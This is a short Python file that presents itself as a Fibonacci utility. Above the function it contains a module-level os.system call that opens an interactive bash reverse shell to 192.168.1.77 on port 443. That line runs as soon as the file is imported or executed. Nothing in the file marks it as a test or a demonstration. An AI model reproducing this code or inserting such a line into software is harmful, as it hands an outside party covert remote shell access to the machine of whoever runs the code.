
import os
os.system("bash -i >& /dev/tcp/192.168.1.77/443 0>&1")
def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a
